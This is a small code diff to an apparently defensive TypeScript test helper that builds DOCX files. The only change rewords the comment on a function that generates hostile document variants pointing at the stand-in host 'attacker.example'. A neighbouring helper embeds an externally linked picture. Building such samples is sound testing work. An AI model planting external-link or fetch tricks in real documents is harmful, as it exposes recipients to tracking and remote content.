@@ -26,7 +26,7 @@ export function withLinkedPicture(docx: Uint8Array, url: string): Uint8Array {
   return related(inBody(docx, drawing), 'image', `Target="${url}" TargetMode="External"`);
 }
 
-/** Files that are one change away from ours, each in a way by which something could be run, fetched or hidden. */
+/** Files one change away from ours, each in a way by which something could be run, fetched or hidden. */
 export function hostile(docx: Uint8Array): Record<string, Uint8Array> {
   const out = 'https://attacker.example/x';
   return {
